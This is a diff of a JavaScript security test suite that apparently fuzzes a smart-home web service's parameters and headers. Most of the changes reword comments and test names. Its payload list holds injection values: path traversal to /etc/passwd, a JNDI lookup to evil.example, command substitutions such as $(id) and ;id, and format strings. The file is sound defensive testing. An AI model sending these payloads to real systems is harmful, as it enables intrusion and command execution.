@@ -1,5 +1,5 @@
-// Text that wants to be something else: line breaks that want to be headers, SQL, markup, addresses. In every
-// parameter, and in every name that comes from the platform.
+// Line breaks, SQL, markup, addresses and paths in every parameter, and in every name that comes from the
+// platform: they are text everywhere.
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { CookieJar, consent, unescapeHtml } from "../stack.mjs";
@@ -20,7 +20,7 @@ const KINDS = {
 	"paths and formats": ["../../../../etc/passwd", "/etc/passwd\0", "%s%n%x%p", "%00", "${jndi:ldap://evil.example/}", "`id`", "$(id)", "|id", ";id"],
 };
 
-/** What no answer may be, whatever it was asked. */
+/** Assert what holds for the answer to any request. */
 function assertHarmless(answer, what) {
 	assert.ok(answer.status < 500 || answer.status === 502, `${what}: ${answer.status} ${answer.text.slice(0, 200)}`);
 	assert.equal(answer.headers["x-evil"], undefined, what);
@@ -32,7 +32,7 @@ function assertHarmless(answer, what) {
 	assert.doesNotMatch(answer.text, /root:x:0|uid=0|syntax error|psql|PG::|42601/, what);
 }
 
-/** No tag, attribute or comment in a page that its author did not write. */
+/** Assert that a page has no tag or attribute but those of its template. */
 function assertEscaped(html, what) {
 	for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
 		assert.match(tag, /^<(!doctype html|\/?[a-z][a-z0-9]*(\s+[a-z][a-z-]*(="[^"<>]*")?)*)\s*>$/i, `${what}: ${tag}`);
@@ -53,14 +53,14 @@ const form = (where, fields) => (text) => request(typeof where === "function" ? 
 const json = (where, fields) => (text) => target.api(typeof where === "function" ? where() : where, fields(text));
 const lamp = (prefix) => () => `${prefix}/${target.lamp.deviceId}/main`;
 
-// name: [how it is sent, status when it is text, status when it cannot be read as text: a form without a
-// token that can be read comes from nobody, and a path that climbs is the web server's to refuse]
+// name: [how it is sent, status of a text, status of a text that cannot be read (a form then has no readable
+// CSRF token, and nginx refuses a path that leaves the root)]
 const PARAMETERS = {
 	"deviceId of the history": [query("/api/history?deviceId="), 404, 400],
 	"component of the history": [(text) => query(`/api/history?deviceId=${target.lamp.deviceId}&component=`)(text), 404, 400],
 	"hours of the history": [(text) => query(`/api/history?deviceId=${target.lamp.deviceId}&hours=`)(text), 400, 400],
-	"a parameter of the page that nobody knows": [query("/?next="), 200, 200],
-	"a parameter of the history that nobody knows": [(text) => query(`/api/history?deviceId=${target.lamp.deviceId}&x=`)(text), 200, 400],
+	"a parameter of the page that is unknown": [query("/?next="), 200, 200],
+	"a parameter of the history that is unknown": [(text) => query(`/api/history?deviceId=${target.lamp.deviceId}&x=`)(text), 200, 400],
 	"the version of a file": [query("/static/switchboard.css?v="), 200, 200],
 	"installation of the disconnect": [query("/disconnect?installation="), 404, 400],
 	"an error of the callback without a state": [query("/oauth/callback?error="), 400, 400],
@@ -105,7 +105,7 @@ for (const [parameter, [send, status, otherwise]] of Object.entries(PARAMETERS))
 	}
 }
 
-// A header cannot carry a line break, but may carry all else.
+// A header can carry all of these but line breaks.
 for (const [header, where, status] of [["Cookie", "/api/switches", 401], ["X-CSRF-Token", "/logout", 403], ["User-Agent", "/", 200],
 	["Accept", "/nothing", 404], ["Referer", "/", 200], ["Origin", "/api/switches", 200], ["X-Forwarded-For", "/", 200], ["Accept-Language", "/", 200]]) {
 	target.survives(`SQL, markup and addresses in the header ${header}: ${status}`, async () => {
@@ -119,12 +119,12 @@ for (const [header, where, status] of [["Cookie", "/api/switches", 401], ["X-CSR
 	});
 }
 
-target.survives("line breaks in every parameter wrote no line of their own into a log", async () => {
+target.survives("line breaks in parameters have not begun a new line in any log", async () => {
 	for (const name of ["oauth", "webhook", "dashboard", "events", "worker", "access"])
 		assert.doesNotMatch(target.stack.log(name), /^(level=error )?event=forged|^level=error event=forged|^Set-Cookie: evil|^X-Evil/m, name);
 });
 
-target.survives("what the platform says of a refused sign-in is text", async () => {
+target.survives("the platform's error texts of a refused sign-in are escaped", async () => {
 	for (const text of Object.values(KINDS).flat().filter((each) => !each.includes("\0"))) {
 		for (const fields of [{ error: text }, { error: "server_error", error_description: text }, { error: "access_denied", error_description: text }]) {
 			const jar = new CookieJar();
@@ -138,7 +138,7 @@ target.survives("what the platform says of a refused sign-in is text", async () 
 	}
 });
 
-test("a code of any text is a page that says so", async () => {
+test("a code with line breaks, markup or SQL gets an error page", async () => {
 	for (const text of [...KINDS["line breaks"].slice(0, 1), ...KINDS.markup.slice(0, 1), ...KINDS.SQL.slice(0, 1)]) {
 		const jar = new CookieJar();
 		const start = await request("/oauth/start", { jar });
@@ -206,4 +206,4 @@ NAMES.forEach((name, number) => {
 	});
 });
 
-test("no program had to be started again, none failed", () => target.assertUnharmed());
+test("no program was restarted, and none logged a failure", () => target.assertUnharmed());
